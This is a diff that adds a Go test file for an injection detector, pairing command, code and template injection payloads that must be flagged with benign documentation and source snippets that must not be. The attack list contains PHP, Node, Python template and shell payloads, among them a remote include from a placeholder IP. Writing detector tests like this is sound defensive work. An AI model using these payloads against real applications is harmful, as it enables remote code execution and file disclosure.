@@ -1,0 +1,125 @@
+package detect
+
+import (
+	"context"
+	"testing"
+)
+
+// Command, code and template injection: attacks written from the grammar that makes
+// them execute, and hard benign text (documentation, source code, forum posts) that
+// uses the same words and punctuation without breaking out of a value.
+
+var cmdiQualityAttacks = []struct {
+	where, in string
+}{
+	// PHP execution and inclusion fed with request data, wrappers or system paths
+	{"query:q", "<?php passthru($_REQUEST['x']); ?>"},
+	{"query:q", "; shell_exec('uname -a');"},
+	{"query:q", "@passthru('cat /etc/hosts')"},
+	{"body:text", "include('php://filter/read=string.rot13/resource=config.php');"},
+	{"query:q", "require_once('http://203.0.113.7/x.txt');"},
+	{"query:q", "<?php echo file_get_contents('/etc/hostname'); ?>"},
+	{"query:q", "call_user_func('assert', $_POST['p']);"},
+	{"query:q", "{${phpinfo()}}"},
+	{"query:q", "eval(gzinflate(base64_decode('s0k=')))"},
+	{"query:q", "get_defined_vars()"},
+	// Node gadgets as one expression
+	{"query:q", "require('child_process').execSync('id').toString()"},
+	{"body:json", "global.process.mainModule.require('fs').readFileSync('/etc/hosts')"},
+	{"query:q", "'+process.exit()+'"},
+	// Ruby
+	{"query:q", "syscall 60"},
+	// Python object walks
+	{"query:q", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"},
+	{"query:q", "().__class__.__base__.__subclasses__()[59]"},
+	{"query:q", "{{ request|attr('__class__') }}"},
+	// Shell: separators, substitution, backticks, newline
+	{"query:host", "127.0.0.1|id"},
+	{"query:host", "127.0.0.1 | id |"},
+	{"query:host", "x;uname"},
+	{"query:host", "x && hostname"},
+	{"query:q", "abc$(id)"},
+	{"query:q", "'$(uname -a)'"},
+	{"query:q", "`uname -a`"},
+	{"query:q", "x=`id`"},
+	{"query:host", "example.org\nid"},
+	{"query:host", "example.org\ncat /etc/hosts\n"},
+	{"query:q", "w$@hoami"},
+	{"query:q", "{cat,/etc/hosts}"},
+	{"query:q", "alias ll=id; ll"},
+	{"query:q", `if "%os%"=="Windows_NT" echo nt`},
+	{"query:q", "if (x) == (x) echo same"},
+	{"query:q", "diff <(ls /) <(ls /tmp)"},
+	// template probes
+	{"query:q", "${'a'.concat('b')}"},
+}
+
+var cmdiQualityBenign = []struct {
+	where, in string
+}{
+	// Node documentation
+	{"body:text", "```js\nconst fs = require('node:fs');\nconst util = require('node:util');\n```"},
+	{"query:q", "const { spawn } = require('node:child_process');"},
+	{"query:q", "All benchmarks use the `require('../common.js')` module."},
+	{"query:q", "Calling `process.exit()` forces the process to exit as quickly as possible."},
+	{"query:q", "vm.runInContext('globalVar *= 2;', context);"},
+	{"query:q", "const filename = `icudt${process.versions.icu.split('.')[0]}.dat`;"},
+	{"body:text", "<span class=\"hljs-subst\">${buf.toString('hex')}</span>"},
+	// Go and C source
+	{"body:text", "func Seek(fd int, offset int64, whence int) (off int64, err error) {\n\tr0, _, e1 := Syscall(SYS_LSEEK, uintptr(fd), uintptr(offset), uintptr(whence))\n\treturn\n}"},
+	{"body:text", "r0, _, _ := syscall6(uintptr(unsafe.Pointer(&libc_getppid_trampoline_addr)), 0, 0, 0, 0, 0, 0)"},
+	{"body:text", "if v := os.Getenv(\"GO_WANT_HELPER_PROCESS\"); v != \"1\" {\n\treturn\n}"},
+	{"body:text", "// var mv Map\n// m = &mv\nm = stackTempAddr(&ring, typ)"},
+	{"body:text", "value = getenv(name);\nif (!value)\n    return NULL;"},
+	{"body:text", "s = PyRun_String(\"done()\", Py_eval_input, g, l);\nif (s == NULL)\n    goto error;"},
+	{"body:text", "fputs(\"usage: gzjoin f1.gz [f2.gz ...] > out.gz\\n\", stderr);"},
+	{"query:q", "add option to system() to return subshell exit status"},
+	{"query:q", "To run a command-line shell, use popen() instead of fopen()."},
+	{"query:q", "strVarRe := regexp.MustCompile(`^\\$[0-9]+ = (0x[0-9a-f]+)`)"},
+	{"query:q", "// pointerToMemberType parses: <pointer-to-member-type> ::= M <(class) type> <(member) type>"},
+	// Python source
+	{"body:text", "def __repr__(self):\n    return f\"{self.__class__.__name__}({self.name!r})\""},
+	{"body:text", "for name, signum in list(signal.__dict__.items()):\n    if name.startswith('SIG'):\n        pass"},
+	{"body:text", "if module == \"codeop\":\n    del new_stack[0]"},
+	{"body:text", "sock = socket.socket()\nwith sock:\n    sock.bind(('', 0))"},
+	{"body:text", "module = importlib.import_module('unittest')"},
+	{"query:q", "Compute a matrix `B = A^{1/2}` such that `B^2 = A`."},
+	// Ruby and regex alternation
+	{"body:text", "(1..id).each{|id|\n  r.expire(id, 1000)\n}"},
+	{"query:q", "r'complete|dirs|echo|echotc|eval|exec|exit'"},
+	// markdown prose about commands
+	{"query:q", "Removes files and directories (modeled on the standard POSIX `rm` utility)."},
+	{"query:q", "The output of `ps --info` is often quite useful."},
+	{"query:q", "* `id` {string|number} The group name or ID"},
+	{"query:q", "Verifies the certificate `cert` is issued to `hostname`."},
+	{"query:q", "fix an issue that caused failed\nPython function calls to leak"},
+	{"query:q", "dd: support iseek= and oseek=\nAlias iseek=N to skip=N, oseek=N to seek=N"},
+	{"query:q", "tests: use \"${parameter:-word}\" shell syntax"},
+	{"query:q", "// Contains types. [{id, address, size, ptrspan, name length, name string} ...]"},
+	{"query:q", "const x = stat('.');"},
+	{"query:q", "btnToActive.label = `${text.textContent} (${btnToActive.dataset.label})`;"},
+	// shell scripts: assignments and arguments
+	{"body:text", "CURR_DIR=$(pwd)\nfor arg in \"$@\"\ndo\n  echo \"$arg\"\ndone"},
+	{"body:text", "da=\"test$N $(date) $RANDOM\""},
+	{"body:text", "headrev=$(git rev-parse --verify HEAD) || exit $?\nif test -n \"$headrev\"; then\n  echo ok\nfi"},
+}
+
+func TestCmdiQualityAttacks(t *testing.T) {
+	d := newTestDetector(t)
+	for _, c := range cmdiQualityAttacks {
+		r := d.Detect(context.Background(), c.in, c.where)
+		if !r.IsThreat {
+			t.Errorf("missed %s %q (score %.2f, %v)", c.where, c.in, r.ThreatScore, r.Threats)
+		}
+	}
+}
+
+func TestCmdiQualityBenign(t *testing.T) {
+	d := newTestDetector(t)
+	for _, c := range cmdiQualityBenign {
+		r := d.Detect(context.Background(), c.in, c.where)
+		if r.IsThreat {
+			t.Errorf("flagged %s %q: %s %.2f %v", c.where, c.in, r.Category, r.ThreatScore, r.Threats)
+		}
+	}
+}
